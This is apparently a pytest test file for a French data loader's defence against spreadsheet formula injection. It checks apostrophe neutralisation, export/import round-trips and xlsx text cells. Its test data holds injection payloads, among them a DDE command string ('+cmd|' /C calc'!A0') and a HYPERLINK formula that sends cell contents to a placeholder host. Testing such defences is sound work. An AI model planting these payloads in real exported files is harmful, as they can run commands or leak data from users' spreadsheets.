"""Formula neutralisation: formulas get an apostrophe, other text does not, and it round-trips."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from loaders.export import export_dataset
from loaders.formulas import is_formula_risk, neutralise, unneutralise
from loaders.importer import import_file, rejects_csv
from loaders.readers_tabular import read_tabular

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
    "=1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1+1",
    "+1-1",
    "-SOMME(A1:A3)",
    "-A1",
    "-x|y",
    "\tcaché",
    "\rretour",
]
NOT_FORMULAS = [
    "-Association Avenir",
    "-Jean-Pierre et compagnie",
    "+ de liens",
    "-",
    "-12,5",
    "-1 234,56 €",
    "+33",
    "12",
    "Association Avenir",
    "l'Échoppe",
    "",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_neutralised(text):
    assert is_formula_risk(text)
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_ordinary_text_and_numbers_are_left_alone(text):
    assert not is_formula_risk(text)
    assert neutralise(text) == text
    assert unneutralise(text) == text


def test_unneutralise_only_removes_an_apostrophe_before_a_trigger():
    assert unneutralise("'-Association Avenir") == "-Association Avenir"  # older exports
    assert unneutralise("'=SUM(A1)") == "=SUM(A1)"
    assert unneutralise("'Déjà entre apostrophes'") == "'Déjà entre apostrophes'"
    assert unneutralise("'") == "'"
    assert unneutralise("l'=x") == "l'=x"


NAMES = [
    "-Association Avenir",
    '=HYPERLINK("http://exemple.invalid","Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "-12,5",
    "'Atelier' des Bois-Blancs",
    "Jardin d'Hellemmes",
]


def _land() -> pd.DataFrame:
    n = len(NAMES)
    return pd.DataFrame(
        {
            "site_id": [f"L{i}" for i in range(1, n + 1)],
            "nom": NAMES,
            "lat": [50.63 + i / 1000 for i in range(n)],
            "lon": [3.06] * n,
            "type": ["local"] * n,
            "statut": ["disponible"] * n,
            "mode_occupation": ["-1+1", "bail", "-convention", None, None, None, None, None],
            "loyer_annuel_eur": [-0.0, 1200.5, None, None, None, None, None, None],
        }
    )


def test_csv_export_prefixes_only_formulas(ess_home):
    payload = export_dataset(_land(), "land", "csv", demo=False)
    table = pd.read_csv(
        io.BytesIO(payload), sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False
    )
    assert table["Nom"].tolist() == [
        "-Association Avenir",
        '\'=HYPERLINK("http://exemple.invalid","Cliquez")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1)",
        "'-2+3",
        "-12,5",
        "'Atelier' des Bois-Blancs",
        "Jardin d'Hellemmes",
    ]
    assert table["Mode d'occupation"].tolist()[:3] == ["'-1+1", "bail", "-convention"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_gives_the_same_names(tmp_path, ess_home, fmt):
    payload = export_dataset(_land(), "land", fmt, demo=False)
    path = tmp_path / f"sites_fonciers.{fmt}"
    path.write_bytes(payload)
    report = import_file(path, "land", dry_run=True)
    assert (report.read, report.accepted, report.rejected) == (len(NAMES), len(NAMES), 0)
    assert report.accepted_df["nom"].tolist() == NAMES
    assert report.accepted_df["mode_occupation"].tolist()[:3] == ["-1+1", "bail", "-convention"]
    assert any("apostrophe retirée" in note for note in report.notes)


def test_xlsx_export_stores_formulas_as_text(ess_home):
    book = openpyxl.load_workbook(io.BytesIO(export_dataset(_land(), "land", "xlsx", demo=False)))
    sheet = book["Données"]
    header = [c.value for c in sheet[1]]
    cells = [sheet.cell(row=r, column=header.index("Nom") + 1) for r in range(2, 2 + len(NAMES))]
    assert all(c.data_type == "s" for c in cells)  # never "f": nothing is evaluated
    assert cells[0].value == "-Association Avenir"
    assert cells[1].value.startswith("'=HYPERLINK(")


def test_windows_1252_file_with_apostrophes_is_read_back(tmp_path):
    text = "Identifiant;Nom\r\nL1;'-Association Avenir\r\nL2;'Atelier' de Moulins\r\n"
    path = tmp_path / "ancien_export.csv"
    path.write_bytes(text.encode("cp1252"))
    raw = read_tabular(path)
    assert raw.frame["Nom"].tolist() == ["-Association Avenir", "'Atelier' de Moulins"]
    assert raw.notes[-1].startswith("1 cellule(s) commençant par une apostrophe")


def test_rejects_download_uses_the_same_rule(tmp_path, ess_home):
    text = (
        "id;nom;type;statut;lat;lon\n"
        "L1;-Association Avenir;château;disponible;50.63;3.06\n"
        "L2;-2+3;château;disponible;50.63;3.06\n"
    )
    path = tmp_path / "sites.csv"
    path.write_text(text, encoding="utf-8")
    lines = rejects_csv(import_file(path, "land", dry_run=True)).decode("utf-8-sig").split("\r\n")
    assert lines[1].startswith("2;L1;-Association Avenir;château;")
    assert lines[2].startswith("3;L2;'-2+3;château;")
